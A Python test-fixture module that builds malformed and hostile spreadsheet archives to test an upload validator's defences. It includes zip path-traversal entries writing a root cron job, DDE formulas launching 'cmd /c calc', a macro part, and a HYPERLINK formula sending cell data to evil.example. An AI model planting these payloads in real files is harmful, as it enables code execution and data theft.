"""Files that are damaged, dressed up as something else, or carry more than a return: of attacks.py."""

import zipfile
from io import BytesIO

from analytics.declare import return_form
from sample_data import faulty_files
from sample_data.attacks_zip import Part, archive, part, sheet_part, small_return, with_parts
from sample_data.small_return import saved, workbook

SHEET = "service_activities"
CONTENT_TYPES, BOOK_LINKS = "[Content_Types].xml", "xl/_rels/workbook.xml.rels"
LINK = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def wrong_checksum() -> bytes:
    real = part(sheet_part(), small_return()[sheet_part()])
    return with_parts(Part(real.name, real.packed, real.size, real.crc ^ 1))


def climbing_name() -> bytes:
    return with_parts(part("xl/../../../etc/cron.d/job", b"* * * * * root sh"))


def absolute_name() -> bytes:
    return with_parts(part("/etc/cron.d/job", b"* * * * * root sh"))


def drive_name() -> bytes:
    return with_parts(part("c:\\windows\\job", b"x"))


def name_twice() -> bytes:
    """The same sheet once as one reader sees it and once as another does."""
    name = sheet_part()
    return archive([part(n, c) for n, c in small_return().items()] + [part(name.upper(), b"<worksheet/>")])


def truncated() -> bytes:
    data = saved(workbook())
    return data[: len(data) * 2 // 3]


def part_encrypted() -> bytes:
    real = part(sheet_part(), small_return()[sheet_part()])
    return with_parts(Part(real.name, real.packed, real.size, real.crc, flags=0x801))


def renamed_archive() -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w") as target:
        target.writestr("report.exe", b"MZ")
    return stream.getvalue()


# ------------------------------------------------------------------------------------------- more than a return
def macros() -> bytes:
    types = small_return()[CONTENT_TYPES].replace(b"spreadsheetml.sheet.main+xml", b"x").replace(
        b"application/vnd.openxmlformats-officedocument.x", b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    return with_parts(part(CONTENT_TYPES, types), part("xl/vbaProject.bin", faulty_files.OLE_MARK + bytes(2000)))


def outside_links() -> bytes:
    link = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    return with_parts(part("xl/externalLinks/externalLink1.xml", link))


def dde() -> bytes:
    """A formula that would start a program, and the link it goes by."""
    link = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')
    sheet = small_return()[sheet_part()]
    cell = sheet[sheet.index(b'<c r="F4"'):]
    cell = cell[: cell.index(b"</c>") + 4]
    formula = b"<c r=\"F4\"><f>cmd|'/c calc'!A1</f><v>80</v></c>"
    return with_parts(part("xl/externalLinks/externalLink1.xml", link),
                      part(sheet_part(), sheet.replace(cell, formula)))


def injected_formula() -> bytes:
    """A text that would be a formula in the next program that opens it as text."""
    book = workbook()
    cell = book[return_form().sheet(SHEET).zh]["C4"]
    cell.value, cell.data_type = '=HYPERLINK("http://evil.example/?"&A1,"点这里")', "s"
    return saved(book)


def very_hidden() -> bytes:
    book = workbook()
    book.create_sheet("底稿")["A1"] = "13812345621"
    book["底稿"].sheet_state = "veryHidden"
    return saved(book)
